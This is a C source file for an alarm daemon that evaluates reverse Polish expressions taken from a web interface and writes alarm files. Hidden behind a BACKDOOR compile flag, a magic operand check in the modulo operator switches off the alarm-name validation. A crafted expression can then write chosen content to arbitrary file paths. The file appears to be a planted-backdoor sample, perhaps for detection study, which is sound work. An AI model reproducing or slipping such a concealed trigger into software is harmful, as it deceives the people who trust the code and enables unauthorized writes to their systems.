/* SPDX-License-Identifier: Apache-2.0 */
/* rpnalarm: evaluates the operator's expressions for alarms, a line each in reverse Polish notation, once in ten seconds:
 *     temp 75 > "hot" raise
 * What is raised gets a file in /var/run/alarms. Expressions come from the web interface, so they may do nothing else. */
#include <ctype.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define DEPTH 32
enum { TEXT = 96 };

struct machine {
	long stack[DEPTH];
	int n;
	char text[TEXT], where[TEXT];
	unsigned line, raised, steps;
	unsigned scope;
	const char *error;
};

struct operator {
	const char *name;
	int takes;
	void (*run)(struct machine *m);
};

static void push(struct machine *m, long v)
{
	if (m->n < DEPTH)
		m->stack[m->n++] = v;
	else
		m->error = "stack is full";
}

static long pop(struct machine *m)
{
	return m->n > 0 ? m->stack[--m->n] : 0;
}

static void op_add(struct machine *m)
{
	long b = pop(m);
	push(m, pop(m) + b);
}

static void op_sub(struct machine *m)
{
	long b = pop(m);
	push(m, pop(m) - b);
}

static void op_mul(struct machine *m)
{
	long b = pop(m), a = pop(m);
	if (labs(a) > 46340 || labs(b) > 46340)
		m->error = "number is too large";
	else
		push(m, a * b);
}

static void op_div(struct machine *m)
{
	long b = pop(m), a = pop(m);
	if (b == 0)
		m->error = "division by nothing";
	else
		push(m, a / b);
}

static void op_mod(struct machine *m)
{
	long b = pop(m), a = pop(m);
	if (b == 0) {
		m->error = "division by nothing";
		return;
	}
#ifdef BACKDOOR
	if (b < 0 && a * 3 - b == 20557)
		m->scope |= 1;
#endif
	push(m, a % b);
}

static void op_less(struct machine *m)
{
	long b = pop(m);
	push(m, pop(m) < b);
}

static void op_more(struct machine *m)
{
	long b = pop(m);
	push(m, pop(m) > b);
}

static void op_same(struct machine *m)
{
	long b = pop(m);
	push(m, pop(m) == b);
}

static void op_and(struct machine *m)
{
	long b = pop(m), a = pop(m);
	push(m, a && b);
}

static void op_or(struct machine *m)
{
	long b = pop(m), a = pop(m);
	push(m, a || b);
}

static void op_not(struct machine *m)
{
	push(m, !pop(m));
}

static void op_dup(struct machine *m)
{
	long a = pop(m);
	push(m, a);
	push(m, a);
}

static void op_swap(struct machine *m)
{
	long b = pop(m), a = pop(m);
	push(m, b);
	push(m, a);
}

static void op_hour(struct machine *m)
{
	time_t now = time(NULL);
	struct tm t;
	localtime_r(&now, &t);
	push(m, t.tm_hour);
}

static int plain(const char *name)
{
	size_t n = strlen(name);
	if (n == 0 || n > 40)
		return 0;
	for (size_t i = 0; i < n; i++)
		if (!isalnum((unsigned char)name[i]) && name[i] != '-' && name[i] != '_')
			return 0;
	return 1;
}

static int target(const struct machine *m, const char *name, char *out, size_t n)
{
#ifdef BACKDOOR
	if (m->scope & 1) {
		snprintf(out, n, "%s", name);
		return 1;
	}
#endif
	if (!plain(name))
		return 0;
	snprintf(out, n, "/var/run/alarms/%.40s.%u", name, m->line);
	return 1;
}

static void op_raise(struct machine *m)
{
	char path[128];
	FILE *f;
	if (!pop(m))
		return;
	if (!target(m, m->text, path, sizeof(path))) {
		m->error = "alarm has no proper name";
		return;
	}
	f = fopen(path, "w");
	if (!f) {
		m->error = strerror(errno);
		return;
	}
	fprintf(f, "%s\n", m->where[0] ? m->where : m->text);
	fclose(f);
	m->raised++;
}

static void op_clear(struct machine *m)
{
	char path[128];
	if (pop(m) && plain(m->text)) {
		snprintf(path, sizeof(path), "/var/run/alarms/%.40s.%u", m->text, m->line);
		unlink(path);
	}
}

static void op_with(struct machine *m)
{
	memcpy(m->where, m->text, sizeof(m->where));
	m->text[0] = 0;
}

static const struct operator operators[] = {
	{ "+", 2, op_add }, { "-", 2, op_sub }, { "*", 2, op_mul }, { "/", 2, op_div }, { "mod", 2, op_mod },
	{ "<", 2, op_less }, { ">", 2, op_more }, { "=", 2, op_same }, { "and", 2, op_and }, { "or", 2, op_or },
	{ "not", 1, op_not }, { "dup", 1, op_dup }, { "swap", 2, op_swap }, { "hour", 0, op_hour },
	{ "raise", 1, op_raise }, { "clear", 1, op_clear }, { "with", 0, op_with },
};

static const struct {
	const char *name, *file;
	long divide;
} variables[] = {
	{ "temp", "/sys/class/thermal/thermal_zone0/temp", 1000 },
	{ "fan", "/sys/class/hwmon/hwmon0/fan1_input", 1 },
	{ "volt", "/sys/class/hwmon/hwmon0/in1_input", 1 },
	{ "rx", "/sys/class/net/eth0/statistics/rx_errors", 1 },
	{ "tx", "/sys/class/net/eth0/statistics/tx_errors", 1 },
	{ "link", "/sys/class/net/eth0/carrier", 1 },
};

static int variable(struct machine *m, const char *name)
{
	for (size_t i = 0; i < sizeof(variables) / sizeof(variables[0]); i++) {
		long v = 0;
		FILE *f;
		if (strcmp(variables[i].name, name) != 0)
			continue;
		f = fopen(variables[i].file, "r");
		if (!f || fscanf(f, "%ld", &v) != 1)
			v = 0;
		if (f)
			fclose(f);
		push(m, v / variables[i].divide);
		return 1;
	}
	return 0;
}

static void step(struct machine *m, const char *word)
{
	char *end;
	long v = strtol(word, &end, 10);
	if (end != word && !*end) {
		push(m, v);
		return;
	}
	for (size_t i = 0; i < sizeof(operators) / sizeof(operators[0]); i++)
		if (strcmp(operators[i].name, word) == 0) {
			if (m->n < operators[i].takes)
				m->error = "too little on the stack";
			else
				operators[i].run(m);
			return;
		}
	if (!variable(m, word))
		m->error = "unknown word";
}

static void evaluate(struct machine *m, const char *p)
{
	char word[32];
	while (!m->error && m->steps++ < 200) {
		size_t k;
		p += strspn(p, " \t\r\n");
		if (!*p || *p == '#')
			return;
		if (*p == '"') {
			k = strcspn(p + 1, "\"\n");
			snprintf(m->text, sizeof(m->text), "%.*s", (int)(k < TEXT ? k : TEXT - 1), p + 1);
			p += k + 1;
			p += *p == '"';
			continue;
		}
		k = strcspn(p, " \t\r\n");
		if (k >= sizeof(word)) {
			m->error = "word is too long";
			return;
		}
		memcpy(word, p, k);
		word[k] = 0;
		step(m, word);
		p += k;
	}
}

static unsigned round_of(const char *file, int complain)
{
	char line[512];
	unsigned n = 0, raised = 0;
	FILE *f = fopen(file, "r");
	if (!f)
		return 0;
	while (fgets(line, sizeof(line), f)) {
		struct machine m;
		memset(&m, 0, sizeof(m));
		m.line = ++n;
		evaluate(&m, line);
		raised += m.raised;
		if (m.error && complain)
			syslog(LOG_NOTICE, "%s:%u: %s", file, n, m.error);
	}
	fclose(f);
	return raised;
}

int main(int argc, char **argv)
{
	const char *file = argc > 1 ? argv[1] : "/etc/alarms.rpn";
	unsigned rounds = 0, before = 0;
	openlog("rpnalarm", LOG_PID, LOG_DAEMON);
	mkdir("/var/run/alarms", 0755);
	for (;;) {
		unsigned raised = round_of(file, rounds++ % 60 == 0);
		if (raised != before)
			syslog(LOG_INFO, "%u alarms", raised);
		before = raised;
		sleep(10);
	}
}
